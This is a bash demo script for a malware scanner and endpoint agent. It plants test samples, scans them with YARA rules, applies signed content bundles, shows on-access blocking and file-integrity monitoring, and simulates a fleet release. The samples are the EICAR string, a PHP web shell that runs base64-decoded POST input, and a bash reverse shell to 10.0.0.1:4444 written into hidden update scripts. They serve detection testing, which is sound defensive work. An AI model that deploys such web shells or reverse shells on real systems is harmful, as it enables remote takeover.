#!/usr/bin/env bash
# make demo: build a small tree with clean files and a few samples, then
# scan it with the rules of the default content (content/default), first
# as text and then as JSON; run the agent on it; then rehearse a faulty
# release on a simulated fleet.
set -euo pipefail
ward=${1:-build/cli/ward}
wardd=${2:-build/agent/wardd}
wardsim=${3:-build/server/ward-sim}
here=$(cd "$(dirname "$0")" && pwd)
content="$here/../content/default"
rules=(--rules "$content/rules/eicar.yar" --rules "$content/rules/starter.yar")
tree=$(mktemp -d /tmp/ward-demo.XXXXXX)
agentdir=$(mktemp -d /tmp/ward-demo-agent.XXXXXX)
agentpid=
cleanup() {
	if [ -n "$agentpid" ]; then kill -TERM "$agentpid" 2>/dev/null; wait "$agentpid" 2>/dev/null; fi
	if mountpoint -q "$agentdir/mnt" 2>/dev/null; then umount "$agentdir/mnt"; fi
	rm -rf "$tree" "$agentdir"
}
trap cleanup EXIT

mkdir -p "$tree/etc" "$tree/var/www/html" "$tree/home/user/Downloads" "$tree/usr/bin"
cp /etc/hostname /etc/os-release "$tree/etc/" 2>/dev/null || true
cp /bin/ls /bin/cat "$tree/usr/bin/"
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' \
	>"$tree/home/user/Downloads/eicar.com"
cat >"$tree/var/www/html/upload.php" <<'PHP'
<?php
// looks like an image upload handler
if (isset($_POST['x'])) { eval(base64_decode($_POST['x'])); }
PHP
echo '<?php echo "hello"; ?>' >"$tree/var/www/html/index.php"
printf '#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >"$tree/home/user/.update.sh"

echo "== ward scan --rules content/default/rules/eicar.yar --rules content/default/rules/starter.yar $tree"
set +e
"$ward" scan "${rules[@]}" "$tree"
status=$?
echo "(exit status $status: 0 clean, 1 found, 2 error)"
echo
echo "== the same scan as JSON (one object per match)"
"$ward" scan --quiet --format json "${rules[@]}" "$tree"
echo
echo "== and /usr/bin of this machine, to see the speed"
"$ward" scan "${rules[@]}" /usr/bin
echo

if [ "$(id -u)" != 0 ]; then
	echo "(run 'sudo make demo' to see the agent too)"
	exit 0
fi
echo "== the agent: a signing key, the default content as a signed bundle"
"$ward" key gen --out "$agentdir/release"
"$ward" content build "$here/../content/default" -o "$agentdir/default.wbundle"
"$ward" content sign "$agentdir/default.wbundle" --key "$agentdir/release.key"
# On-access blocking watches a tmpfs of the demo's own (never a mount the
# demo did not create).
mkdir -p "$agentdir/mnt"
mount -t tmpfs -o size=16m,mode=0755 ward-demo "$agentdir/mnt"
mkdir -p "$agentdir/site/conf"
echo "listen 80" >"$agentdir/site/conf/web.conf"
printf 'trusted_keys: [%s/release.pub]\nstate_dir: %s/state\nrun_dir: %s/run\nonaccess:\n  paths: [%s/mnt]\nfim:\n  paths: [%s/site]\n' \
	"$agentdir" "$agentdir" "$agentdir" "$agentdir" "$agentdir" >"$agentdir/wardd.yaml"
"$wardd" --config "$agentdir/wardd.yaml" --foreground 2>"$agentdir/wardd.log" &
agentpid=$!
for _ in $(seq 50); do "$ward" agent --run-dir "$agentdir/run" status >/dev/null 2>&1 && break; sleep 0.1; done
echo
echo "== ward agent apply: signatures, sandboxed compile and self-tests, atomic install"
"$ward" agent --run-dir "$agentdir/run" apply "$agentdir/default.wbundle"
echo
echo "== a tampered bundle is refused, and the agent keeps protecting"
cp "$agentdir/default.wbundle" "$agentdir/tampered.wbundle"
size=$(stat -c %s "$agentdir/tampered.wbundle")
printf 'X' | dd of="$agentdir/tampered.wbundle" bs=1 seek=$((size - 20)) conv=notrunc 2>/dev/null
"$ward" agent --run-dir "$agentdir/run" apply "$agentdir/tampered.wbundle"
echo
"$ward" agent --run-dir "$agentdir/run" status
echo
echo "== ward agent scan: the agent's content finds the samples"
"$ward" agent --run-dir "$agentdir/run" scan "$tree"
echo
echo "== on-access: a clean script runs, a reverse-shell script is not allowed to"
printf '#!/bin/sh\necho "clean script ran"\n' >"$agentdir/mnt/clean.sh"
printf '#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >"$agentdir/mnt/update.sh"
chmod +x "$agentdir/mnt/clean.sh" "$agentdir/mnt/update.sh"
"$agentdir/mnt/clean.sh"
"$agentdir/mnt/update.sh" || echo "(exit status $?: execution denied by the agent)"
echo
echo "== real-time FIM: a watched config file is changed, and who did it is recorded"
sleep 0.5
sh -c "echo 'listen 8080' >>'$agentdir/site/conf/web.conf'"
chmod 600 "$agentdir/site/conf/web.conf"
sleep 1
echo
echo "== the agent's journal: what happened, as ECS events"
python3 - "$agentdir/state/journal" <<'PY' 2>/dev/null || true
import glob, json, struct, sys
for path in sorted(glob.glob(sys.argv[1] + "/*.wjl")):
    data = open(path, "rb").read()
    off = 0
    while off + 16 <= len(data):
        n, _, seq = struct.unpack_from("<IIQ", data, off)
        ev = json.loads(data[off + 16:off + 16 + n])
        extra = ev.get("file", {}).get("path") or ev.get("message", "")
        if "executable" in ev.get("process", {}):
            extra += "  (by %s, pid %d)" % (ev["process"]["executable"], ev["process"]["pid"])
        print("%4d  %-6s %-28s %s" % (seq, ev["event"]["kind"], ev["event"]["action"], extra[-110:]))
        off += 16 + n
PY
echo
echo "== the fleet: 200 simulated agents, a good release, then one that crashes agents"
echo "   (ward-sim starts its own ward-server on loopback; check-ins every 2 s, soaks of 3 s)"
WARD_BIN="$ward" WARD_SERVER_BIN="$(dirname "$wardsim")/ward-server" \
	"$wardsim" --self-contained --agents 200 --soak 3 --fault crash 2>/dev/null || true
exit 0
